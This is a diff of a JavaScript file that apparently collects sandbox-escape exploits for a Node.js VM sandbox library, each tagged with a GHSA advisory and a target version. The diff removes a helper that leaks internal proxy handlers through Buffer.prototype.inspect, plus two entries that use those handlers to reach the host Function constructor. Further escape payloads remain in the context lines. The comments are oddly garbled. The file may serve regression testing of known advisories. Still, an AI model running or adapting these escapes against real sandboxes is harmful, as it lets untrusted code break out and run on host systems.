@@ -1,11 +1,6 @@
 // Proxies of the code's that the library looks into, and what shows proxies of the library's.
 'use strict';
 
-// `leaked`: handlers of the library's proxies, which what shows a value comes upon.
-const SHOWN = `const leaked = [];
-      const shows = { subarray: Buffer.prototype.inspect, slice: Buffer.prototype.slice, hexSlice: () => '', of: { __proto__: null } };
-      shows.slice(20, { showHidden: true, showProxy: true, depth: 10, stylize(text) { if (this.seen) for (const it of this.seen) if (it && !leaked.includes(it)) leaked.push(it); return text; } });`;
-
 module.exports = [
   {
     name: 'function-thrown-by-a-trap', advisory: 'before 3.6.11: what a trap throws is called by who looks', kind: 'VM', against: '3.6.4',
@@ -20,32 +15,6 @@ module.exports = [
       const it = { [Symbol.for('nodejs.util.inspect.custom')]: (depth, options, inspect) => { result = ${take('inspect.constructor')}; }, valueOf: undefined, constructor: undefined };
       WebAssembly.compileStreaming(it).catch(() => {});
       (async () => { for (let i = 0; i < 20 && result === undefined; i++) await null; return result; })()`,
-  },
-  {
-    name: 'handler-that-is-shown', advisory: 'GHSA-v37h-5mfm-c47c', kind: 'VM', against: '3.10.5',
-    code: ({ take }) => `${SHOWN}
-      let result;
-      for (const handler of leaked) {
-        try {
-          const Handler = Object.getPrototypeOf(handler).constructor, carrier = { __proto__: null }, made = new Handler(carrier);
-          made.set(carrier, 'made', Buffer.prototype.inspect, carrier);
-          if (carrier.made.constructor !== Function) result = ${take('carrier.made.constructor')};
-        } catch {}
-      }
-      result`,
-  },
-  {
-    name: 'trap-with-another-target', advisory: 'GHSA-qcp4-v2jj-fjx8', kind: 'VM', against: '3.10.5',
-    code: ({ take, climb }) => `${SHOWN}
-      ${climb}
-      let result;
-      for (const handler of leaked) {
-        for (const work of ['getPrototypeOf', 'get']) try {
-          const one = handler[work](Buffer.from, 'constructor');
-          for (const made of [one, one.constructor]) if (typeof made === 'function' && made !== Function) result ??= ${take('made')};
-        } catch {}
-      }
-      result`,
   },
   {
     name: 'symbols-of-the-host', advisory: 'GHSA-47x8-96vw-5wg6', kind: 'VM', against: '3.10.5',
